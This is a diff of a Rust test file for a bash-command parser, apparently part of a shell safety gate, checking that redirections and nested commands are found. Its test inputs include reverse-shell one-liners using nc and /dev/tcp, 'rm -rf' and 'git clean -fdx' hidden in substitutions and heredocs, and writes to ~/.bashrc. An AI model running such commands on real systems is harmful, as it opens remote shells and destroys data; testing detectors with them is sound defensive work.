@@ -1,7 +1,9 @@
-//! Tests of the normaliser.
+//! Tests of the tree-built commands (formerly of the hand lexer; the
+//! same inputs, the same expectations).
 
-use super::embedded::shell_quote;
 use super::*;
+use crate::gates::shell::embedded::{elisp_shell_strings, shell_quote};
+use crate::gates::shell::paths::strip_glob;
 
 fn home() -> Option<&'static Path> {
     Some(Path::new("/home/u"))
@@ -370,4 +372,91 @@ fn substitutions_in_a_heredoc_body_are_commands_unless_the_delimiter_is_quoted()
             .len(),
         1
     );
+}
+
+/// Where tree-sitter-bash 0.25 reads bash differently from bash, the
+/// builder follows bash.
+#[test]
+fn grammar_misreadings_are_corrected() {
+    // A redirection binds to the simple command before it, not the list.
+    let s = parse("git add . && echo x > ~/.bashrc", home());
+    assert!(s.commands[0].redirects.is_empty());
+    assert_eq!(s.commands[1].write_targets(), v(&["/home/u/.bashrc"]));
+    // `a | b 2>&1 | c > f`: three stages, each redirection on its command.
+    let s = parse("cat /tmp/f | /bin/sh -i 2>&1 | nc h 4444 > /tmp/f", home());
+    let stages: Vec<(&str, usize, usize)> = s
+        .commands
+        .iter()
+        .map(|c| (c.program.as_str(), c.stage, c.redirects.len()))
+        .collect();
+    assert_eq!(stages, [("cat", 0, 0), ("sh", 1, 1), ("nc", 2, 1)]);
+    assert!(s
+        .commands
+        .iter()
+        .all(|c| c.pipeline == s.commands[0].pipeline));
+    // `>& f 0>&1`: `0` is the next redirection's descriptor, not a word.
+    let c = &parse("bash -i >& /dev/tcp/h/1 0>&1", home()).commands[0];
+    assert_eq!(c.args, v(&["-i"]));
+    // `0<&196`: a redirection alone, no program called `0`.
+    assert_eq!(parse("0<&196", home()).commands[0].program, "");
+    // `3<>file`: one read-write operator.
+    let c = &parse("exec 3<>/dev/tcp/h/80", home()).commands[0];
+    assert_eq!(c.redirects[0].op, "<>");
+    assert_eq!(c.redirects[0].target, "/dev/tcp/h/80");
+    // A lone `-` before a heredoc is still an argument.
+    let c = &parse("python3 - <<'PY'\nprint(1)\nPY", home()).commands[0];
+    assert_eq!(c.args, v(&["-"]));
+    assert_eq!(c.stdin_text.as_deref(), Some("print(1)\n"));
+    // Backquotes in a heredoc body with no other expansion still run.
+    let names: Vec<String> = parse("tee n.txt <<EOF\n`git clean -fdx`\nEOF", home())
+        .commands
+        .into_iter()
+        .map(|c| c.program)
+        .collect();
+    assert_eq!(names, ["tee", "git"]);
+}
+
+/// Every place a command can hide in the tree is followed.
+#[test]
+fn commands_nested_anywhere_in_the_tree_are_found() {
+    let found = |script: &str| -> Vec<(String, Origin)> {
+        parse(script, home())
+            .commands
+            .into_iter()
+            .filter(|c| c.program == "rm")
+            .map(|c| (c.args.join(" "), c.origin))
+            .collect()
+    };
+    for script in [
+        "diff <(rm -rf x) y",
+        "for f in $(rm -rf x); do :; done",
+        "case $(rm -rf x) in a) ;; esac",
+        "[ -n \"$(rm -rf x)\" ] && echo",
+        "export X=$(rm -rf x)",
+        "echo ${Y:-$(rm -rf x)}",
+        "cat > f <<EOF\n${Y:-$(rm -rf x)}\nEOF",
+    ] {
+        assert_eq!(
+            found(script),
+            [("-rf x".to_string(), Origin::Substitution)],
+            "{script}"
+        );
+    }
+    assert_eq!(
+        found("f() { rm -rf x; }; if true; then while :; do rm -rf x; done; fi"),
+        [
+            ("-rf x".to_string(), Origin::Top),
+            ("-rf x".to_string(), Origin::Top)
+        ]
+    );
+    assert_eq!(
+        found("cat <<EOF | sh\nrm -rf x\nEOF"),
+        [("-rf x".to_string(), Origin::Heredoc)]
+    );
+    // A compound statement's redirection is a write of its own.
+    let s = parse("{ echo a; echo b; } > ~/.profile", home());
+    assert!(s
+        .commands
+        .iter()
+        .any(|c| c.write_targets() == v(&["/home/u/.profile"])));
 }
